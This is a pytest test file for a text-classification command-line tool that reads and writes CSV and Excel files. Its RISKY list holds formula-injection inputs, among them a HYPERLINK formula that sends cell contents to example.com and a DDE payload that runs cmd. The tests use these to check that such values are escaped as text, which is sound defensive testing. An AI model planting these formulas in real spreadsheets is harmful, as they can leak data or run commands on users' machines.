import pandas as pd
import pytest
from click.testing import CliRunner

from opsworkbench import InputError, classify_file, evaluate_file
from opsworkbench.cli import cli

TEXTS = [
    "I process claims",
    "Patients get home safely",
    "n/a",
    "Margin up 3 points",
    "Handle 80 customer calls a day",
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_classify_cli_keeps_every_row_and_column(tmp_path, suffix):
    source = tmp_path / f"in{suffix}"
    frame = pd.DataFrame({"id": range(len(TEXTS)), "answer": TEXTS, "extra": "x"})
    frame.to_csv(source, index=False) if suffix == ".csv" else frame.to_excel(source, index=False)
    out = tmp_path / f"out{suffix}"
    result = CliRunner().invoke(
        cli,
        ["classify", str(source), "--text-column", "answer", "-o", str(out), "--chunk-size", "2"],
    )
    assert result.exit_code == 0, result.output
    back = pd.read_csv(out) if suffix == ".csv" else pd.read_excel(out)
    assert list(back.columns) == [
        "id",
        "answer",
        "extra",
        "focus",
        "result",
        "quadrant",
        "confidence",
        "cues",
    ]
    assert back["id"].tolist() == list(range(len(TEXTS)))
    assert (
        back.quadrant.tolist()[2] == "unclassified" and back.quadrant.tolist()[0] == "factory_floor"
    )


def test_classify_names_a_missing_column_and_writes_nothing(tmp_path):
    source = tmp_path / "in.csv"
    pd.DataFrame({"text": TEXTS}).to_csv(source, index=False)
    with pytest.raises(InputError, match="answer"):
        classify_file(source, tmp_path / "out.csv", "answer")
    assert not list(tmp_path.glob("*out*"))


def test_evaluate_file_accepts_label_spellings(tmp_path):
    path = tmp_path / "labelled.csv"
    pd.DataFrame(
        {
            "t": [
                "Number of nets distributed",
                "Fewer children sick with malaria",
                "Nurses trained",
            ],
            "r": ["Output", "outcome", "-1"],
            "f": ["internal", "external", "ext"],
        }
    ).to_csv(path, index=False)
    report = evaluate_file(path, "t", result_column="r", focus_column="f")
    assert report["result"]["n"] == 3 and 0 <= report["result"]["macro_f1"] <= 1
    pd.DataFrame({"t": ["x"], "r": ["maybe"]}).to_csv(path, index=False)
    with pytest.raises(InputError, match="maybe"):
        evaluate_file(path, "t", result_column="r")


def test_evaluate_cli_cross_validates():
    result = CliRunner().invoke(cli, ["evaluate", "--folds", "3"])
    assert result.exit_code == 0, result.output
    assert "focus   macro-F1" in result.output and "Confusion matrix" in result.output


RISKY = [
    '=HYPERLINK("http://example.com/?leak="&A1,"Click me")',
    "+1-555-0100 is the number I call",
    "-5% churn",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "#N/A",
    "I process claims",
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_classify_writes_answers_that_look_like_formulas_as_text(tmp_path, suffix):
    from openpyxl import Workbook, load_workbook

    source = tmp_path / f"in{suffix}"
    frame = pd.DataFrame({"id": [str(i) for i in range(len(RISKY))], "=answer": RISKY})
    if suffix == ".csv":
        frame.to_csv(source, index=False)
    else:  # an input workbook whose cells hold this text (not formulas)
        book = Workbook()
        for row in [list(frame.columns), *frame.values.tolist()]:
            book.active.append(row)
        for cell in (c for row in book.active.iter_rows() for c in row):
            cell.data_type = "s"
        book.save(source)
    out = tmp_path / "out.xlsx"
    classify_file(source, out, "=answer")
    sheet = load_workbook(out).worksheets[0]
    rows = list(sheet.iter_rows())
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
    assert rows[0][1].value == "=answer" and rows[0][1].data_type == "s"
    assert [row[1].value for row in rows[1:]] == RISKY
    assert all(row[1].data_type == "s" for row in rows[1:])
    assert all(row[1].quotePrefix for row in rows[1:-1])  # stays text when edited in Excel


def test_classify_csv_output_keeps_answers_exactly(tmp_path):
    source = tmp_path / "in.csv"
    pd.DataFrame({"answer": RISKY}).to_csv(source, index=False)
    classify_file(source, tmp_path / "out.csv", "answer")
    back = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert back["answer"].tolist() == RISKY


def test_classify_names_a_character_xlsx_cannot_hold(tmp_path):
    source = tmp_path / "in.csv"
    pd.DataFrame({"answer": ["fine", "bell \x07 here"]}).to_csv(source, index=False)
    with pytest.raises(InputError, match=r"in.csv, row 3, column 'answer': contains a control"):
        classify_file(source, tmp_path / "out.xlsx", "answer")
    assert not list(tmp_path.glob("*out*"))
    classify_file(source, tmp_path / "out.csv", "answer")  # CSV keeps every character
